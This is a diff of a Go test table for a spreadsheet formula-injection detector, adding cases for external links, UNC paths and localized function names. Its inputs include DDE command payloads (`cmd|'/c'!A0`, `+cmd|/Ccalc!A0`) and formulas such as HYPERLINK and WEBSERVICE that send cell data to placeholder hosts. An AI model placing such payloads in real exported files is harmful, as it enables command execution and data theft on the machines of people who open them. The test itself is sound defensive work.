@@ -45,11 +45,17 @@ func TestFormulasThatRunAreToldFromTexts(t *testing.T) {
 	for line, want := range map[string]bool{
 		`=RTD("a")`: true, `=IF(1,RTD("a"))`: true, `=@RTD (1)`: true, `+RTD("1")`: true, `-1+CALL("1")`: true, `=_xlfn._xlws.WEBSERVICE(A1)`: true,
 		`-- (see call (2))`: false, `- call (me)`: false, `= see exec(utive)`: false, `=A1+4,call (2)`: false, `-1,(call(2))`: false, `x,RTD(1)`: false,
-		`- exec("x")`: false, `-exec("x")`: true, `+  call ("x")`: false, `- RTD("x")`: true, `- exec("x")+cmd|'/c'!A0`: true, `-1+ exec("x")`: true,
+		`- exec("x")`: false, `-exec("x")`: true, `+  call ("x")`: false, `- RTD("x")`: false, `- RTD("x",,"y")`: true, `- exec("x")+cmd|'/c'!A0`: true, `-1+ exec("x")`: false,
 		`=cmd|'/c'!A`: true, `=1+cmd|x!A`: true, `=-cmd|'x'!A`: true, `=cmd|'a''b'!A`: true, `-x|y!`: false, `'=cmd|'x'!A`: false,
 		`+cmd|/Ccalc!A0`: true, `-cmd|/C calc!A0`: true, `@cmd|/c!$A$1`: true, `- cmd|/C!A0`: false, `-a|b!`: false, `-a|b! c1`: false, `-a b|c!A0`: false, `-a|b!cd e1`: false,
 		`+IMAGE(A2)`: true, `-IMAGE($B$12,"x")`: true, `- image (a2)`: false, `-image(s)`: false, `-image(a2 of it)`: false, `-image (a2)`: false,
 		`=MAP(A1,IMAGE)`: true, `=LET(f,IMAGE,f(A1))`: true, `=IF(A1,IMAGE,2)`: false, `=ＷＥＢＳＥＲＶＩＣＥ(A1)`: true, `=ＨＹＰＥＲＬＩＮＫ("https://e/"&A1)`: true,
+		`='http://h/x.csv'#$x.A1`: true, `+'\\h\s\[x.xls]S'!A1`: true, `=SUM('file:///x'#$S.A1)`: true, `='a'!A1+'//h/[x]S'!$A$1`: true, `=A1 'https://h/[x]S'!A1`: true, `=f('a+'http://h/x'#A1`: true,
+		`=INDIRECT("'\\h\s\[x.xls]S'!A1")`: true, `='My sheet'!A1`: false, `='[Book2.xlsx]Sheet'!A1`: false, `='C:\a\[b.xlsx]S'!A1`: false, `- it's 'http://h/x'! Great`: false, `='http://h/x'`: false,
+		`-5|'Great'!x`: false, `-5%|'Great'!A1`: false, `-5| 'Great'! Loved it`: false, `-b|'wow'!|x`: false, `-b|'wow'!A0`: true, `=1+cmd|'x'! A0`: true,
+		`- DDE ("Direct Debit") fee, x`: false, `-Shell("Main St")`: false, `-CALL("a","b")`: true, `- CALL ("a","b")`: true, `+ RTD("a" ;"b")`: true, `- WEBSERVICE("http://h/")`: true,
+		`=VERKKOPALVELU(A1)`: true, `=NETTJENESTE(A1)`: true, `=webszolgáltatás(A1)`: true, `=webhizmeti(A1)`: true, `=DANE.CZASU.RZECZ("x";;"y")`: true, `=RTG("x";;"y")`: true, `- via ("x")`: false,
+		`=OBRÁZEK("http://e/"&A1)`: true, `=HYPERLÄNK("http://e/"&A1)`: true,
 		`=HYPERLINK("https://e/"&A1)`: true, `=HYPERLINK("#"&A1)`: false, `=HYPERLINK("https://e/?a&b",A1&"x")`: false, `=HYPERLINK(A1)`: false,
 	} {
 		if got := tableIn(t, 5, []byte("a,b\n1,"+line+"\n")); (got != "") != want {
